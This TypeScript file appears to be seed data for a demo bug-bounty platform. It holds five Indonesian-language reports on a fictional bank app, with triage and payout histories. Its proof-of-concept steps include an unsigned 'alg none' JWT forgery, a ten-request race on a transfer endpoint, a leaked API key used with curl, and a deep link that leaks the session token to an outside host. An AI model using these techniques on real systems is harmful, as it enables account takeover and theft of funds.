import { decide, give, rate, standBy, valid } from '../decision-acts.ts'
import { ask, fixing, reply, retest, say, take, verdict } from '../report-acts.ts'
import type { ReportDescription } from '../seed-types.ts'

/** Nusa Mobile in the last weeks: money on its way, mending, and what still waits. */
export const nusaMobileLate: ReportDescription[] = [
  {
    key: 'nusa-jwt',
    program: 'nusa-mobile',
    by: 'elang',
    at: '16d 21:08',
    title: 'Token JWT dengan alg none diterima layanan notifikasi',
    target: 'https://api.nusabank.test',
    weakness: ['broken_authentication_and_session_management.authentication_bypass', 347],
    cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
    steps: [
      'Ambil token sah dari akun uji, lalu ubah bagian kepala menjadi `{"alg":"none","typ":"JWT"}`.',
      'Ganti `sub` menjadi id akun uji kedua dan hapus tanda tangannya, sisakan titik terakhir.',
      'Kirim permintaan di bawah dengan token buatan tersebut.',
    ],
    code: `GET /v2/notify/inbox HTTP/2
Host: api.nusabank.test
Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJ1amktYiJ9.`,
    masked: ['token', 'eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJ1amktYiJ9.'],
    seen: 'Kotak masuk akun uji kedua tampil, termasuk kode persetujuan transaksi. Pola yang sama berlaku pada `PUT /v2/notify/settings`.',
    impact:
      'Penyerang tanpa akun dapat menjadi siapa saja di layanan notifikasi, membaca kode persetujuan transaksi, dan mematikan pemberitahuan korban.',
    advice:
      'Tetapkan algoritma yang diterima secara tegas di server (`RS256` saja) dan tolak token tanpa tanda tangan. Perbarui pustaka JWT di layanan notifikasi.',
    picture: ['header: {"alg":"none"}', 'sub: uji-b', 'GET /v2/notify/inbox', '200 OK'],
    acts: [
      take('15d 08:40'),
      say(
        '15d 08:55',
        'triase',
        'Kritis menurut klaim. Saya kerjakan sekarang, tolong verifikator pantau antrean lain.',
        'hello',
      ),
      valid(
        '15d 10:20',
        'triase',
        5,
        'Token tanpa tanda tangan diterima pada dua endpoint notifikasi; diulang dengan akun uji tim.',
      ),
      rate('14d 11:00', 'nusabank-admin'),
      reply('14d 19:20', 'accepted'),
      fixing('14d 11:10', 'nusabank-admin'),
      give('4d 10:00', 'nusabank-admin', { amount: 120_000_000n }),
      say(
        '4d 10:10',
        'nusabank-admin',
        'Usulan Rp120 juta karena kode persetujuan ikut terbaca. Menunggu persetujuan kedua dari pemilik akun.',
        'company',
      ),
    ],
  },
  {
    key: 'nusa-kunci-ios',
    program: 'nusa-mobile',
    by: 'jalak',
    at: '33d 13:20',
    title: 'Kunci API peta tertanam di aplikasi iOS tanpa pembatasan',
    target: 'id.nusabank.mobile',
    weakness: ['sensitive_data_exposure.disclosure_of_secrets.pay_per_use_abuse', 798],
    cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:L/A:L',
    steps: [
      'Unduh paket aplikasi versi 4.11 dan buka berkas `Info.plist` di dalamnya.',
      'Kunci `MapsApiKey` tertulis terang; salin ke perintah di bawah.',
      'Layanan peta menjawab permintaan dari komputer mana pun dengan tagihan ke Nusa Bank.',
    ],
    code: `strings Payload/NusaMobile.app/NusaMobile | grep -E 'AIza[0-9A-Za-z_-]{35}'
curl "https://peta.contoh.test/geocode?address=jakarta&key=AIza…"`,
    impact:
      'Orang lain dapat memakai kuota peta atas biaya Nusa Bank, dan lokasi cabang di aplikasi gagal dimuat bila kuota habis.',
    advice:
      'Batasi kunci pada id aplikasi dan layanan yang dipakai saja, lalu ganti kunci yang sudah beredar.',
    acts: [
      take('32d 10:00', 'verifikator'),
      valid(
        '31d 15:00',
        'verifikator',
        3,
        'Kunci terbaca dari paket aplikasi dan berlaku dari luar aplikasi; tidak ada data nasabah yang terlihat.',
      ),
      rate('28d 10:30', 'triase', {
        vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:N/A:L',
        reason:
          'Kunci tidak membuka data apa pun; dampaknya hanya pemakaian kuota, sehingga kerahasiaan dan integritas dihapus dari vektor.',
      }),
      reply(
        '27d 20:10',
        'disputed',
        'Menurut saya kuota yang habis membuat fitur cabang tidak berfungsi, mohon ketersediaan dipertimbangkan lagi.',
      ),
      standBy(
        '26d 09:10',
        'nusabank-admin',
        'Sudah kami pertimbangkan: ketersediaan memang sudah masuk dengan nilai rendah, selebihnya tidak ada layanan yang berhenti.',
      ),
      decide(
        '25d 11:00',
        'penyelia',
        'Kuota peta hanya memengaruhi pencarian cabang, dan layanan lain tetap berjalan. Ketersediaan bernilai rendah sudah tepat.',
      ),
      give('25d 14:00', 'nusabank-admin'),
      fixing('25d 14:10', 'nusabank-admin'),
      retest(
        '2d 11:00',
        'nusabank-admin',
        'Versi 4.13 memakai kunci baru yang dibatasi. Mohon diuji ulang dengan versi itu.',
      ),
      verdict(
        '1d 13:40',
        'jalak',
        'fixed',
        'Kunci lama ditolak dan kunci baru hanya berlaku dari aplikasi. Menurut saya sudah selesai.',
      ),
    ],
  },
  {
    key: 'nusa-log',
    program: 'nusa-mobile',
    by: 'tarsius',
    at: '30d 19:45',
    title: 'Nomor kartu dan PIN sementara tercatat di log perangkat Android',
    target: 'com.nusabank.mobile',
    weakness: [
      'insecure_data_storage.sensitive_application_data_stored_unencrypted.on_internal_storage',
      532,
    ],
    cvss: 'CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N',
    steps: [
      'Sambungkan ponsel uji, jalankan perintah di bawah, lalu lakukan aktivasi kartu di aplikasi.',
      'Amati keluaran log pada langkah **Buat PIN**.',
    ],
    code: `adb logcat | grep -i cardactivation
D/CardActivation: req={"pan":"5264••••••••1004","tempPin":"9•••••","cvv":"•••"}`,
    impact:
      'Aplikasi lain dengan izin membaca log, atau petugas servis ponsel, dapat memperoleh nomor kartu lengkap beserta PIN sementara.',
    advice: 'Hapus pencatatan permintaan pada build rilis dan samarkan data kartu di semua tingkat log.',
    acts: [
      take('29d 09:30', 'verifikator'),
      valid(
        '28d 11:00',
        'verifikator',
        4,
        'Terlihat pada build rilis 4.12.1 di dua ponsel uji; data kartu tercatat lengkap pada langkah aktivasi.',
      ),
      rate('27d 13:00', 'nusabank-admin'),
      give('26d 10:00', 'nusabank-admin'),
      fixing('26d 10:05', 'nusabank-admin'),
      retest(
        '12d 15:30',
        'nusabank-admin',
        'Build 4.12.4 tidak lagi mencatat permintaan. Mohon diperiksa kembali.',
      ),
      verdict(
        '10d 10:00',
        'verifikator',
        'fixed',
        'Log build 4.12.4 bersih selama aktivasi kartu; hanya kode status yang tercatat.',
      ),
    ],
  },
  {
    key: 'nusa-ganda',
    program: 'nusa-mobile',
    by: 'komodo',
    at: '21d 22:50',
    title: 'Transfer terjadwal dapat dijalankan dua kali lewat permintaan serentak',
    target: 'https://api.nusabank.test',
    weakness: ['server_security_misconfiguration.race_condition', 362],
    cvss: 'CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:N/I:H/A:H',
    steps: [
      'Buat transfer terjadwal Rp10.000 dari akun uji A ke akun uji B.',
      'Pada menit pelaksanaan, kirim sepuluh permintaan **Jalankan sekarang** secara bersamaan.',
      'Akun B menerima uang dua sampai tiga kali, sedangkan saldo A berkurang satu kali.',
    ],
    code: `seq 10 | xargs -P10 -I{} curl -s -X POST \\
  https://api.nusabank.test/v2/schedules/77120/run -H "Authorization: Bearer $TOKEN"`,
    impact:
      'Saldo dapat digandakan berulang-ulang. Kerugian bank tumbuh secepat penyerang membuat jadwal baru.',
    advice:
      'Kunci baris jadwal sebelum dijalankan dan beri kunci idempoten pada setiap perpindahan uang, dijaga indeks unik di basis data.',
    acts: [
      take('20d 09:00'),
      valid(
        '19d 16:00',
        'triase',
        5,
        'Tiga dari lima percobaan menggandakan transfer pada lingkungan uji yang disiapkan Nusa Bank.',
      ),
      rate('18d 10:00', 'triase', {
        vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:N/I:H/A:H',
        reason:
          'Percobaan ulang menunjukkan balapan mudah dimenangkan tanpa persiapan khusus, maka kerumitan turun menjadi rendah.',
      }),
      reply('18d 19:00', 'accepted'),
      give('16d 15:00', 'nusabank'),
      fixing('16d 15:05', 'nusabank-admin'),
      say(
        '13d 11:00',
        'nusabank-admin',
        'Perbaikan memerlukan perubahan skema; rencana naik bersama rilis tengah bulan.',
      ),
      say('13d 19:30', 'komodo', 'Siap, kabari saja bila sudah bisa diuji ulang.'),
    ],
  },
  {
    key: 'nusa-rekaman',
    program: 'nusa-mobile',
    by: 'cendrawasih',
    at: '5d 20:10',
    title: 'Tautan dalam Android membuka WebView dengan token sesi',
    target: 'com.nusabank.mobile',
    weakness: ['broken_access_control.exposed_sensitive_android_intent', 939],
    cvss: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
    steps: [
      'Buat halaman dengan tautan `nusabank://buka?url=https://uji.cendrawasih.test`.',
      'Buka halaman itu di ponsel dengan aplikasi Nusa Mobile yang sedang masuk, lalu ketuk tautannya.',
      'WebView di dalam aplikasi memuat situs saya dan menyertakan header `Authorization`.',
    ],
    code: `adb shell am start -a android.intent.action.VIEW \\
  -d "nusabank://buka?url=https://uji.cendrawasih.test/catat"`,
    impact:
      'Satu ketukan pada tautan jahat mengirim token sesi korban kepada penyerang, yang lalu dapat membaca saldo dan mutasi.',
    advice:
      'Izinkan hanya host milik bank pada parameter `url` dan jangan sertakan token untuk halaman luar.',
    acts: [
      take('4d 09:00', 'verifikator'),
      ask(
        '2d 10:30',
        'verifikator',
        'Pada Android 15 kami tidak melihat header Authorization. Mohon sebutkan versi Android serta lampirkan rekaman layarnya.',
      ),
    ],
  },
]
